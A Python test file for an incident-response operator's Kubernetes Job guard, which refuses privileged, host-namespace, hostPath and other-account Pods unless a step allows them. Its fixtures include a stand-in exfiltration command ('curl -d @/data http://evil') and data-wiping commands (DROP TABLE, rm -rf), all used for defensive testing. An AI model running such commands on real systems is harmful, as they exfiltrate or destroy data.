"""What a Job's Pod does beyond running one container as the Runbook's account is told first, and refused unless the step allows it."""

import json
from typing import Any

import pytest

from incident_operator.actions.clients import Clients
from incident_operator.actions.job import beyond
from incident_operator.actions.job.beyond import Allow
from incident_operator.actions.job.job import ACTION, Job
from incident_operator.core.outcomes import Unusable
from tests.actions.calls import ACCOUNT, Player, call
from tests.actions.job.test_job import JOBS
from tests.kubernetes.fake_apiserver import FakeApiserver
from tests.kubernetes.manifests import deployment

MAIN: dict[str, Any] = {"name": "main", "image": "busybox"}
WIPES = {"name": "init", "image": "psql", "args": ["-c", "DROP TABLE customers"]}
SENDS = {"name": "sidecar", "image": "curl", "command": ["curl", "-d", "@/data", "http://evil"]}
ROOT = {"name": "root", "hostPath": {"path": "/"}}


def main(**context: Any) -> dict[str, Any]:
    return {**MAIN, "securityContext": context}


BEYOND: dict[str, tuple[dict[str, Any], Allow, str]] = {
    "an init container": (
        {"initContainers": [WIPES], "containers": [MAIN]},
        Allow.OTHER_CONTAINERS,
        'init container "init" of image "psql" runs too',
    ),
    "a sidecar": (
        {"containers": [MAIN, SENDS]},
        Allow.OTHER_CONTAINERS,
        'container "sidecar" of image "curl" runs too',
    ),
    "a directory of the node": (
        {"containers": [MAIN], "volumes": [{"name": "tmp", "emptyDir": {}}, ROOT]},
        Allow.HOST_PATH,
        'volume "root" is "/" of the node',
    ),
    "a privileged container": (
        {"containers": [main(privileged=True)]},
        Allow.PRIVILEGED,
        'container "main" has privileged',
    ),
    "escalation": (
        {"containers": [main(allowPrivilegeEscalation=True)]},
        Allow.PRIVILEGED,
        'container "main" has allowPrivilegeEscalation',
    ),
    "capabilities": (
        {"containers": [main(capabilities={"drop": ["ALL"], "add": ["SYS_ADMIN", "NET_RAW"]})]},
        Allow.PRIVILEGED,
        'container "main" has added capabilities "SYS_ADMIN", "NET_RAW"',
    ),
    "the node's processes": (
        {"containers": [main(procMount="Unmasked")]},
        Allow.PRIVILEGED,
        'container "main" has procMount "Unmasked"',
    ),
    "a container that is not confined": (
        {"containers": [main(seccompProfile={"type": "Unconfined"})]},
        Allow.PRIVILEGED,
        'container "main" has seccompProfile Unconfined',
    ),
    "containers that are not confined": (
        {"containers": [MAIN], "securityContext": {"appArmorProfile": {"type": "Unconfined"}}},
        Allow.PRIVILEGED,
        "every container has appArmorProfile Unconfined",
    ),
    "a Windows host process": (
        {"containers": [main(windowsOptions={"hostProcess": True})]},
        Allow.PRIVILEGED,
        'container "main" has hostProcess',
    ),
    "Windows host processes": (
        {"containers": [MAIN], "securityContext": {"windowsOptions": {"hostProcess": True}}},
        Allow.PRIVILEGED,
        "every container has hostProcess",
    ),
    **{
        name: ({"containers": [MAIN], name: True}, Allow.HOST_NAMESPACES, f"the Pod has {name}")
        for name in ("hostPID", "hostNetwork", "hostIPC")
    },
    **{
        field: (
            {"containers": [MAIN], field: "cluster-admin-sa"},
            Allow.OTHER_ACCOUNT,
            f'it runs as service account "cluster-admin-sa", not as "{ACCOUNT}"',
        )
        for field in ("serviceAccountName", "serviceAccount")
    },
}
ORDINARY: dict[str, dict[str, Any]] = {
    "one container": {"containers": [MAIN]},
    "the Runbook's account": {"containers": [MAIN], "serviceAccountName": ACCOUNT},
    "the account of each Pod that names none": {"containers": [MAIN], "serviceAccountName": "default"},
    "less than usual": {"containers": [main(privileged=False, capabilities={"drop": ["ALL"]})], "hostPID": False},
    "confined": {"containers": [main(seccompProfile={"type": "RuntimeDefault"})]},
    "a port": {"containers": [{**MAIN, "ports": [{"containerPort": 80}]}]},
    "volumes of its own": {"containers": [MAIN], "volumes": [{"name": "a", "emptyDir": {}}]},
}


@pytest.fixture
def job(clients: Clients) -> Player:
    return Player(ACTION, clients)


def problems(spec: Job) -> list[str]:
    return [str(problem) for check in ACTION.checks for problem in check(spec, "spec.remediate[0].job")]


@pytest.mark.parametrize("trial", [True, False])
@pytest.mark.parametrize("name", BEYOND)
async def test_it_is_refused_unless_the_step_allows_it(api: FakeApiserver, job: Player, name: str, trial: bool) -> None:
    pod, allow, told = BEYOND[name]
    with pytest.raises(Unusable) as refused:
        await job.show(call(Job(template={"spec": pod})), trial=trial)
    wanted = f"job needs allow: [{allow.value}], if this is intended, for what its Pod does: {told}"
    assert refused.value.message == wanted
    others = [other for other in Allow if other is not allow]
    with pytest.raises(Unusable):
        await job.show(call(Job(template={"spec": pod}, allow=others)), trial=trial)
    assert api.objects(JOBS) == []


@pytest.mark.parametrize("name", BEYOND)
async def test_where_it_is_allowed_it_is_told_first(api: FakeApiserver, job: Player, name: str) -> None:
    pod, allow, told = BEYOND[name]
    preview = await job.show(call(Job(template={"spec": pod}, allow=[allow])))
    assert preview.allows == (f"{allow.value}: {told}",)
    assert preview.whole == {"template": preview.thing["spec"]["template"]}


@pytest.mark.parametrize("name", BEYOND)
async def test_what_a_workload_holds_is_refused_too(api: FakeApiserver, job: Player, name: str) -> None:
    pod, allow, told = BEYOND[name]
    api.put(deployment(**pod))
    step = {"from": "deployment/web", "command": ["x"]}
    if name == "a sidecar":
        assert "curl" not in json.dumps((await job.show(call(Job(**step)))).whole), "only one container of it runs"
        return
    with pytest.raises(Unusable, match="job needs allow"):
        await job.show(call(Job(**step)))
    assert (await job.show(call(Job(**step, allow=[allow])))).allows == (f"{allow.value}: {told}",)


@pytest.mark.parametrize("name", ORDINARY)
async def test_what_is_ordinary_needs_no_leave(api: FakeApiserver, job: Player, name: str) -> None:
    spec = Job(template={"spec": ORDINARY[name]})
    assert problems(spec) == []
    assert (await job.show(call(spec))).allows == ()


@pytest.mark.parametrize("name", [name for name, (_, allow, _) in BEYOND.items() if allow is not Allow.OTHER_ACCOUNT])
def test_the_compiler_tells_what_a_template_needs(name: str) -> None:
    pod, allow, told = BEYOND[name]
    assert problems(Job(template={"spec": pod}, allow=[allow])) == []
    wanted = f"spec.remediate[0].job.template: {told}; if this is intended, write allow: [{allow.value}]"
    assert problems(Job(template={"spec": pod})) == [wanted]


def test_data_never_decides_what_the_pod_is_allowed() -> None:
    pod = {"containers": [main(privileged="${params.x}")], "hostPID": "${params.x}"}
    assert len(problems(Job(template={"spec": pod}))) == 2


def test_the_container_that_is_meant_is_the_named_one() -> None:
    pod = {"containers": [MAIN, SENDS]}
    assert [one.what for one in beyond.beyond({"spec": pod}, "sidecar", ACCOUNT)] == [
        'container "main" of image "busybox" runs too'
    ]
    assert 'container "main"' in "".join(problems(Job(template={"spec": pod}, container="sidecar")))


def test_a_port_of_the_node_is_told() -> None:
    """Only of a template: a Job from a workload has no ports."""
    pod = {"containers": [{**MAIN, "ports": [{"containerPort": 80}, {"containerPort": 81, "hostPort": 443}]}]}
    told = 'container "main" has port "443" of the node; if this is intended, write allow: [hostNamespaces]'
    assert problems(Job(template={"spec": pod})) == [f"spec.remediate[0].job.template: {told}"]
    assert problems(Job(template={"spec": pod}, allow=[Allow.HOST_NAMESPACES])) == []


def test_a_container_is_not_the_one_that_is_meant_because_it_has_its_name() -> None:
    pod = {"containers": [MAIN, {**SENDS, "name": "main"}]}
    told = [one.what for one in beyond.beyond({"spec": pod}, "main", ACCOUNT)]
    assert told == ['container "main" of image "curl" runs too']


@pytest.mark.parametrize(
    "template",
    [
        {},
        {"spec": 1},
        {"spec": {"containers": "x", "volumes": {}, "securityContext": []}},
        {"spec": {"containers": [1, {}, {"name": 7}], "initContainers": [None]}},
        {"spec": {"containers": [{"name": "main", "securityContext": {"capabilities": {"add": "ALL"}}}]}},
        {"spec": {"containers": [MAIN], "volumes": [{"hostPath": "/"}]}},
    ],
)
def test_a_template_of_any_shape_can_be_looked_at(template: dict[str, Any]) -> None:
    list(beyond.beyond(template, "main", ACCOUNT))
    problems(Job(template=template))


async def test_the_command_of_the_container_is_shown_where_the_step_has_none(api: FakeApiserver, job: Player) -> None:
    wipes = {**MAIN, "args": ["sh", "-c", "rm -rf /data/customers"]}
    preview = await job.show(call(Job(template={"spec": {"containers": [wipes]}})))
    assert preview.details["args"] == ["sh", "-c", "rm -rf /data/customers"]
    assert preview.whole["template"]["spec"]["containers"][0]["args"] == wipes["args"]


@pytest.mark.parametrize(
    ("field", "value"), [("labels", {"app": "checkout"}), ("annotations", {"vault.hashicorp.com/role": "admin"})]
)
async def test_labels_and_annotations_of_the_pod_are_shown_and_bound(
    api: FakeApiserver, job: Player, field: str, value: dict[str, str]
) -> None:
    before, after = [
        await job.show(call(Job(template={"metadata": meta, "spec": {"containers": [MAIN]}})))
        for meta in ({}, {field: value})
    ]
    assert before.digest != after.digest
    assert value.items() <= after.whole["template"]["metadata"][field].items()


async def test_the_account_of_the_pod_is_told_beside_that_of_the_runbook(api: FakeApiserver, job: Player) -> None:
    api.put(deployment(serviceAccountName="scheduler"))
    spec = Job(**{"from": "deployment/web"}, command=["x"], allow=[Allow.OTHER_ACCOUNT])
    assert (await job.show(call(spec))).details["runsAs"] == "scheduler"
    assert (await job.show(call(Job(template={"spec": {"containers": [MAIN]}})))).details["runsAs"] == "default"
